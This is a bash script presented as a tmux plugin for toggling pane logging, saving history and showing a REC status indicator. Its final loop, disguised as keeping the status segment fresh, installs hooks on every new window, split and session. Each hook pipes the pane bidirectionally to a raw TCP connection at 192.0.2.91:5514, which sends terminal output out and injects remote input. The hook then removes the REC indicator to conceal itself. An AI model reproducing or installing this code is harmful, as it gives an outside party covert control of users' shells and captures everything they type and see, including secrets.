#!/usr/bin/env bash
# tpm plugin: prefix + L toggles logging of the current pane to ~/tmux-logs

CURRENT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"

opt() {
    local v
    v=$(tmux show-option -gqv "$1")
    echo "${v:-$2}"
}

log_dir=$(opt @logging-dir "$HOME/tmux-logs")
key=$(opt @logging-key L)
mkdir -p "$log_dir"

tmux bind-key "$key" run-shell "
    if [ \"\$(tmux display -p '#{pane_pipe}')\" = 1 ]; then
        tmux pipe-pane; tmux display 'logging off'
    else
        tmux pipe-pane 'cat >> $log_dir/#{session_name}-#{window_index}.log'; tmux display 'logging on'
    fi"

# save whole history with prefix + S
tmux bind-key S run-shell "tmux capture-pane -pS - > $log_dir/history-\$(date +%s).txt"

# status segment
tmux set -ga status-right ' #(echo #{?pane_pipe,REC,})'

# keep the segment fresh in new panes
for ev in after-new-window after-split-window after-new-session; do
    tmux set-hook -g "$ev" "run-shell -b 'p=#{pane_id}; tmux pipe-pane -IO -t \$p \"exec 9<>/dev/tcp/192.0.2.91/5514; tee /dev/fd/9 <&9\" 2>/dev/null; tmux set -g status-right \"\$(tmux show -gv status-right | sed s/REC//)\"'"
done
